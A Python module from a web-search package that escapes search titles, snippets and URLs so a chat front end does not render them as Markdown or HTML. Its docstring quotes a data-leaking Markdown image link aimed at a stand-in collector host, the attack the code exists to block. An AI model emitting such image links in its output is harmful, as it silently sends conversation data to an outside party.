"""
Words of the web as plain text that stays plain text where a front end renders it as Markdown.

A title, a snippet or an answer may hold ``![](https://collector.example/?d=...)``, which a chat window loads as soon
as it shows it. Escaping here changes as little as possible, because the same text is also shown as it is: it inserts a
space where Markdown or HTML would begin. Whole pages are Markdown: see `websearch_core.reading._markdown.sanitizer`.
"""

from __future__ import annotations

import re
from urllib.parse import quote, urlsplit

from .invisible import strip_invisible

# What begins a tag, a comment or an autolink (CommonMark 0.31, 6.5 and 6.6); "a < b" and "x <3" do not.
TAG = re.compile(r"<(?=[A-Za-z/!?]|[^\s<>@]{1,64}@)")
_DEFINITION = re.compile(r"^(?:[ \t>*+-]|\d{1,9}[.)])*+\[", re.MULTILINE)
_FENCE = re.compile(r"([`~])(?=\1\1)")  # a block of code, which would swallow what is shown after it
_NOT_IN_URLS = re.compile(r"""[\s<>"\\^`{|}\[\]\x00-\x20\x7f]""")
_NOT_IN_LINKS = re.compile(r"""[\s<>"\\^`{|}\[\]\x00-\x20\x7f()!'*]""")


def escape_text(text: str) -> str:
    """Return *text* without invisible characters, and with nothing in it that Markdown or HTML would act on."""
    text = strip_invisible(text)[0]
    if "<" in text:
        text = TAG.sub("< ", text)
    if "[" in text:
        text = text.replace("![", "! [").replace("](", "] (")
        if "]:" in text and _DEFINITION.search(text):
            text = text.replace("]:", "] :")
    return _FENCE.sub(r"\1 ", text) if "```" in text or "~~~" in text else text


def escape_url(url: str) -> str:
    """Percent-encode in *url* what RFC 3986 allows in no path, query or fragment: Markdown gives it a meaning."""
    return _encoded(_NOT_IN_URLS, url)


def link_target(url: str) -> str | None:
    """Return *url* as the target of a Markdown link, which it cannot end; None unless it is absolute http(s)."""
    try:
        parts = urlsplit(url)
        if parts.scheme not in {"http", "https"} or not parts.hostname:
            return None
    except ValueError:
        return None
    return _encoded(_NOT_IN_LINKS, url)


def _encoded(unsafe: re.Pattern[str], url: str) -> str:
    if not unsafe.search(url):
        return url
    scheme, separator, rest = url.partition("://")
    host, slash, path = rest.partition("/")
    if not separator or not re.fullmatch(r"\[[0-9A-Fa-f:.]+\](?::\d*)?", host):  # brackets around an IPv6 address stay
        host = unsafe.sub(_quoted, host)
    return f"{unsafe.sub(_quoted, scheme)}{separator}{host}{slash}{unsafe.sub(_quoted, path)}"


def _quoted(found: re.Match[str]) -> str:
    return quote(found[0], safe="")
